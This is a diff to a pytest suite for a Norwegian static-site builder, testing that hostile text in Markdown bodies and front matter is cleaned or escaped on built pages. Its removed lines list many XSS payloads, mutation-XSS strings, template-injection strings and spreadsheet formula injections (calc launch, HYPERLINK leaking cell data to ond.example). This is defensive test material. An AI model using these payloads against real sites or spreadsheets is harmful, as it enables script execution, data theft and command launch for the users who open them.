@@ -17,121 +17,28 @@ from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
+import markdown
 import openpyxl
 import pytest
 from bad_files import workbook
 from defusedxml import ElementTree
+from fuzz.payloads import CODE, SCRIPTS
+from hostile import AT_ONCE, BODIES, EVERY, FIELDS, NUMBER, everywhere, poison_words, several_at_once, tool
 from lxml import html as lxml_html
 from playwright.sync_api import Browser, Route
-from support import Quiet, make_checkout, writeup
+from support import Quiet, make_checkout
 
 from macros.content.load import load
 from macros.content.markdown.body import render
 from macros.content.markdown.links import Links
 from macros.engine.build import build_site
+from macros.engine.clock import today
 from macros.site.checks import check
+from macros.site.gate import judge
 from macros.site.policy import frame_scripts, unknown_programs
 from macros.text.spreadsheets import starts_formula
 
-# In bodies. What each is: HTML that runs, addresses that run, Markdown's own extensions, templates, mutations.
-BODIES = {
-    "script": "<script>window.live = 1</script>",
-    "onerror": '<img src="x" alt="Øy" onerror="window.live = 1">',
-    "link": "[Øy](javascript:window.live=1)",
-    "link, coded": "[Øy](&#106;avascript&colon;window.live=1)",
-    "link, tab": '<a href="java&#9;script:window.live=1">Øy</a>',
-    "link, vbscript": "[Øy](vbscript:x)",
-    "autolink": "<javascript:window.live=1>",
-    "reference": "[Øy][x]\n\n[x]: javascript:window.live=1",
-    "attr_list": 'Øy\n{: onclick="window.live=1" }',
-    "attr_list, inline": "[Øy](https://øy.example){: onmouseover=window.live=1 }",
-    "blocks": "/// html | script\nwindow.live=1\n///",
-    "data": "[Øy](data:text/html;base64,PHNjcmlwdD4=)",
-    "iframe": '<iframe srcdoc="<script>parent.live=1</script>"></iframe>',
-    "style": "<style>@import 'https://ond.example/x.css';</style>",
-    "style attribute": '<p style="background:url(https://ond.example/x)">Øy</p>',
-    "form": '<form action="https://ond.example"><button>Øy</button></form>',
-    "remote image": "![Øy](https://ond.example/spor.png)",
-    "svg": '<svg onload="window.live=1"><script>window.live=1</script></svg>',
-    "refresh": '<meta http-equiv="refresh" content="0;url=https://ond.example">',
-    "base": '<base href="https://ond.example/">',
-    "object": '<object data="https://ond.example"></object><embed src="https://ond.example">',
-    "focus": "<input autofocus onfocus=window.live=1>",
-    "toggle": "<details open ontoggle=window.live=1><summary>Øy</summary></details>",
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.live=1&gt;">',
-    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.live=1>">Øy</noscript>',
-    "unfinished": "<img src=x onerror=window.live=1 alt=Øy ",
-    "comment": "<!--><img src=x onerror=window.live=1>-->",
-    "snippet": '--8<-- "mkdocs.yml"',
-    "template": "{{ 1337 * 3 }} {% raw %}{{ config.hooks }}{% endraw %}",
-    "macro": "{{ key_figure('x') }}{{ 'a' * 10 ** 9 }}",
-    "code": "`<script>window.live=1</script>`\n\n    <img src=x onerror=window.live=1>",
-}
-# In front matter. Each breaks out of one of the places where the text is put.
-FIELDS = {
-    "refresh": '0;url=/ond/" http-equiv="refresh',
-    "attribute": '" autofocus onfocus="window.live=1',
-    "attribute, single": "' onmouseover='window.live=1",
-    "element": '"><script>window.live=1</script><img src=x onerror=window.live=1>',
-    "json": "</script><script>window.live=1</script>",
-    "title": "</title><script>window.live=1</script>",
-    "comment": "--><script>window.live=1</script><!--",
-    "cdata": "]]><script>window.live=1</script>",
-    "entity": "&lt;script&gt;window.live=1&lt;/script&gt;&#60;img src=x onerror=window.live=1&#62;",
-    "template": "{{ 1337 * 3 }}{% set x = config.hooks %}{# øy #}",
-    "markdown": "](javascript:window.live=1) [Øy](javascript:window.live=1)",
-    "formula": '=HYPERLINK("https://ond.example/?"&A1;"Øy")',
-    "plus": "+SUM(1)|cmd!A1",
-    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "minus": "-2+3+cmd|' /C calc'!A0",
-    "lines": "Øy\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Ond\\n# Ond",
-    "tab": "\\t=1+1",
-    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.live=1>",
-    "protocol": "javascript:window.live=1",
-}
-NUMBER = {name: index for index, name in enumerate(FIELDS)}
 ADDRESS = re.compile(r"^[\x00-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)
-
-
-def quoted(text: str) -> str:
-    """As a double-quoted scalar of YAML: backslashes in FIELDS are escapes of YAML."""
-    return '"' + text.replace('"', '\\"') + '"'
-
-
-def one_line(payload: str) -> str:
-    """As a title may be: one of several lines is a mistake of its own."""
-    return payload.replace("\\n", " ")
-
-
-def everywhere(payload: str) -> str:
-    """A project with the payload in every field that takes text."""
-    q = quoted(payload)
-    bodies = [text for name, text in BODIES.items() if name in ("code", "template", "snippet", "attr_list")]
-    return writeup(
-        "## Mål\n\nBlåbær.\n\n" + "\n\n".join(bodies) + "\n",
-        title=quoted(f"{one_line(payload)} {NUMBER[next(k for k, v in FIELDS.items() if v == payload)]}"),
-        summary=q,
-        source=f"[{{title: {q}, section: {q}, url: https://øy.example, as_of: 2024}}]",
-        aliases=f"[{q}]",
-        builds_on=f"[{q}]",
-        classified_by=q,
-        outcome=f"{{status: ukjent, reason: {q}, scope: {q}}}",
-        adopted_by=f"[{{organisation: {q}, adapted: {q}, result: {q}}}]",
-        contact=f"{{role: {q}, organisation: {q}}}",
-        benefits=f"[{{id: g1, type: annen-gevinst, description: {q}, indicator: {q}, unit: {q}, baseline: {{value: 3, date: 2024}}}}]",
-        downloads=f"[{{file: plan.xlsx, title: {q}, rights: {q}}}]",
-        published="2026-11-01",
-        updated="2026-11-02",
-    )
-
-
-def tool(payload: str) -> str:
-    q = quoted(payload)
-    return (
-        f"---\ntitle: {quoted(one_line(payload) + ' verktøy')}\nsummary: {q}\nsource: [{{title: {q}, section: {q}}}]\n"
-        f"participants: [{q}]\naliases: [{q}]\nversion: \"1.0\"\nchanges: [{{version: \"1.0\", date: 2026-01-01, text: {q}}}]\n"
-        "---\n\n## Slik gjør du\n\nBlåbær.\n"
-    )  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -139,10 +46,15 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The site built from all of them, without its policy."""
     folder = tmp_path_factory.mktemp("ond")
     projects = {f"p{index}/index.md": everywhere(text) for index, text in enumerate(FIELDS.values())}
+    for number, at in enumerate(range(0, len(EVERY), AT_ONCE), 900):
+        projects[f"p{number}/index.md"] = several_at_once(EVERY[at : at + AT_ONCE], number)
     tools = {f"v{index}/index.md": tool(text) for index, text in enumerate(FIELDS.values())}
     root = make_checkout(folder, projects, tools)
     for name in projects:
+        if name.startswith("p9") and name[3:4].isdigit():
+            continue
         (root / "projects" / name).parent.joinpath("plan.xlsx").write_bytes(workbook())
+    assert poison_words(root) > 25
     errors = [p.as_text() for p in check(load(root)) if p.severity == "error"]
     assert errors == [], "text is text: nothing of this is wrong as such"
     build_site(root, folder / "site")
@@ -170,6 +82,27 @@ def live(root: Any, known: frozenset[str], redirects: bool = False) -> list[str]
         if element.tag == "form" and not (element.get("action") or "/").startswith("/"):
             found.append("form")
     return found
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len({*SCRIPTS, *BODIES.values(), *FIELDS.values()}) >= 200 and len(set(CODE)) >= 60
+
+
+def test_every_script_is_told_or_dead_in_a_body_and_on_a_page(tmp_path: Path) -> None:
+    """In the text of a write-up it is cleaned; on an editorial page, where HTML is allowed, it is told or escaped."""
+    root = make_checkout(tmp_path, {})
+    links = Links(root, "projects/øy.md")
+    for number, text in enumerate((*SCRIPTS, *BODIES.values())):
+        body, _ = render(text, links, 12)
+        assert live(lxml_html.fragment_fromstring(body.html or " ", create_parent="div"), frozenset()) == [], text
+        (root / f"docs/om/ond{number}.md").write_text(f"---\ntitle: Øy\n---\n\n## Øy\n\n{text}\n", encoding="utf-8")
+    content = load(root)
+    told = {p.path for p in judge(content, today()) if p.severity == "error"}
+    for page in content.editorial:
+        if page.path not in told and "/ond" in page.path:
+            html = markdown.markdown(page.body, extensions=["attr_list", "md_in_html", "tables"])
+            assert live(lxml_html.fragment_fromstring(html, create_parent="div"), frozenset()) == [], page.body
+    assert len(told) > len(SCRIPTS) * 0.8
 
 
 @pytest.mark.parametrize("name", BODIES)
@@ -226,7 +159,8 @@ def test_every_page_is_dead(hostile: Path) -> None:
     pages = sorted(hostile.rglob("*.html"))
     assert len([p for p in pages if p.parent.parent.name in ("prosjekter", "verktoy")]) >= 2 * len(FIELDS)
     for page in pages:
-        assert live(lxml_html.parse(str(page)).getroot(), known) == [], page
+        moved = page.parent.name in ("kvalitet", "oppfolging")  # the secretariat's, which lead on to /bidra/
+        assert live(lxml_html.parse(str(page)).getroot(), known, redirects=moved) == [], page
         assert "4011" not in page.read_text(encoding="utf-8"), "a template was run"
 
 
@@ -320,7 +254,7 @@ def test_nothing_runs_navigates_or_asks_elsewhere(browser: Browser, hostile: Pat
         f"/{f.relative_to(hostile).as_posix()}".removesuffix("index.html") for f in hostile.rglob("*.html")
     )
     own = [a for a in addresses if re.match(r"/(prosjekter|verktoy)/[pv]\d+/$", a)]
-    kinds = ["/", "/prosjekter/", "/prosjekter/a-aa/", "/verktoy/", "/gevinster/", "/portefolje/", "/bidra/kvalitet/", "/bidra/oppfolging/", "/data/"]  # fmt: skip
+    kinds = ["/", "/prosjekter/", "/prosjekter/a-aa/", "/verktoy/", "/gevinster/", "/portefolje/", "/data/"]  # fmt: skip
     for address in [*own, *(k for k in kinds if k in addresses)]:
         page.goto(address, wait_until="load")
         page.evaluate("""for (const e of document.querySelectorAll('*')) {
